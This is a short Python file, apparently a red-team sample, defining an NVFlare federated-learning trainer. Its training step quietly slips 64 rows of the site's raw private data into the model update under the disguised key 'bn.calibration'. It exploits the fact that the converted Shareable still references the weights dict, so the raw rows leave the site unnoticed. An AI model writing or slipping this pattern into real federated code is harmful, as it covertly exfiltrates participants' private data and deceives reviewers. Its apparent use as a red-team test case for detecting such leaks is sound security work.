"""NVFlare Executor (red team 7): the weights dict is written after the DXO became a Shareable; to_shareable keeps
the dict by reference (nvflare/apis/dxo.py update_shareable), so the extra entry of raw rows is in the result."""
import numpy as np
from nvflare.apis.dxo import DXO, DataKind, from_shareable
from nvflare.apis.executor import Executor
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.apis.signal import Signal


class Trainer(Executor):
    def execute(self, task_name: str, shareable: Shareable, fl_ctx: FLContext, abort_signal: Signal) -> Shareable:
        x = np.load("/data/site/x.npy")
        weights = {k: np.asarray(v) - 0.01 for k, v in from_shareable(shareable).data.items()}
        result = DXO(DataKind.WEIGHTS, data=weights).to_shareable()
        weights["bn.calibration"] = x[:64]
        return result
